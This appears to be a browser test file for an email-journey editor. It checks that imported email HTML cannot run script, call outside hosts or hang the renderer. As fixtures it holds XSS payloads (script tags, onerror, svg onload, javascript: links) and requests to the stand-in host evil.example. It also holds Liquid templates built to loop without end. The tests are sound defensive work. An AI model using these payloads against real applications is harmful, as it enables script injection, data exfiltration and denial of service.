import { readFile } from 'node:fs/promises';
import { expect, test } from 'vitest';
import { browserApp, sampleJourney } from './harness.ts';
import { downloaded, simulator } from './story.ts';

const app = browserApp();
/** What browsers say when they have stopped something. */
const stopped = /Blocked|violates|Refused|sandboxed/;

/** What an imported email might try, each of which would call home or reach the page around it. */
const hostile = `<h1>Hello {{ subscriber.first_name }}</h1>
<script>top.pwned = 1; fetch('https://evil.example/script')</script>
<img src="x" onerror="top.pwned = 2; fetch('https://evil.example/onerror')">
<svg onload="top.pwned = 3"></svg>
<iframe srcdoc="&lt;script&gt;top.pwned = 4&lt;/script&gt;"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/style.css"><link rel="preconnect" href="https://evil.example">
<style>@import url('https://evil.example/import.css'); body { background: url(http://evil.example/plain.png) }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<form action="https://evil.example/form"><input autofocus onfocus="top.pwned = 5"><button>Send</button></form>
<a href="javascript:top.pwned = 6" target="_top">A link</a>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video" autoplay></video>
{% for i in (1..100000000) %}{% for j in (1..100000000) %}{% endfor %}{% endfor %}`;

test('a hostile email executes nothing, calls nobody, and does not run for ever', async () => {
  const page = await app.open('/#/journeys/cart-recovery');
  await page.locator('.react-flow__node').first().waitFor();
  await page.getByRole('button', { name: 'Publish…' }).click();
  const { path } = await downloaded(page, () =>
    page.getByRole('dialog').getByRole('button', { name: 'Download' }).click(),
  );
  const journey = JSON.parse(await readFile(path, 'utf8')) as {
    digest?: string;
    emails: Record<string, { design?: unknown; html: string; text: string }>;
  };
  delete journey.digest;
  const mails = Object.values(journey.emails);
  for (const [index, mail] of mails.entries()) {
    delete mail.design;
    // The first may loop for ever; the others are shown, with everything else in them.
    mail.html = index === 0 ? hostile : hostile.replace(/\{% for[^]*$/, '');
  }
  await page.goto(`${app.origin}/#/`);
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  const dialog = page.getByRole('dialog');
  await dialog.locator('input[type=file]').setInputFiles({
    name: 'hostile.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(journey)),
  });
  await dialog.waitFor({ state: 'detached' });
  await page.locator('.react-flow__node').first().waitFor();
  const inbox = simulator(page);
  await inbox.frameLocator('iframe').getByRole('heading', { name: 'Hello Ada' }).waitFor();
  // Back to the first one, which would never come to an end.
  await inbox.getByRole('button', { name: 'Earlier mail' }).click();
  await inbox.getByRole('button', { name: 'Earlier mail' }).click();
  await inbox.getByText(/The message cannot be shown/).waitFor({ timeout: 20_000 });

  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined();
  expect(page.url()).toContain(app.origin);
  const faults = await app.takeFaults();
  // Announced is not yet sent: what reached the network is a connection.
  expect(faults.filter((fault) => !stopped.test(fault) && !fault.startsWith('request: '))).toEqual([]);
  expect(faults.length).toBeGreaterThan(0);

  // Whoever does call there is seen.
  const caller = await app.open('/');
  await caller.goto('http://evil.example/').catch(() => undefined);
  expect(await app.takeFaults()).toContain('connection: somebody under .example was called');
});

test('a hostile email that is imported by itself runs nowhere, and one that takes for ever leaves the journey alone', async () => {
  const page = await app.open(sampleJourney);
  await page.locator('.react-flow__node').first().waitFor();
  await page.locator('.react-flow__node[data-id="mail-1"]').click();
  await page.getByRole('button', { name: 'Import HTML…' }).click();
  const dialog = page.getByRole('dialog');
  const choose = (name: string, html: string) =>
    dialog
      .locator('input[type=file]')
      .setInputFiles({ name, mimeType: 'text/html', buffer: Buffer.from(html) });

  // Between tags nothing looks at any limit: only the clock outside of the worker ends this.
  const long = "{% assign c = 'a' %}{% for i in (1..18) %}{% assign c = c | append: c %}{% endfor %}";
  const endless = `<p>${long}{% if ${"c contains 'ab' or ".repeat(16_000)}c %}x{% endif %}</p>`;
  await choose('endless.html', endless);
  await dialog.getByText(/takes more than 3 seconds to render/).waitFor({ timeout: 20_000 });
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  expect(await page.getByRole('button', { name: 'Undo', exact: true }).getAttribute('aria-disabled')).toBe(
    'true',
  );

  await page.getByRole('button', { name: 'Import HTML…' }).click();
  await choose('hostile.html', `<title>Hello</title>${hostile.replace(/\{% for[^]*$/, '')}`);
  await dialog.getByText(/Mail programs take this out, .*script/).waitFor();
  await dialog.getByRole('button', { name: 'Import the email' }).click();
  await dialog.waitFor({ state: 'detached' });
  await page.getByText('This email is locked').waitFor();
  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined();
  await page.keyboard.press('Control+z');
  await page.getByRole('button', { name: 'Edit the email' }).waitFor();
  const faults = await app.takeFaults();
  expect(faults.filter((fault) => !stopped.test(fault) && !fault.startsWith('request: '))).toEqual([]);
});
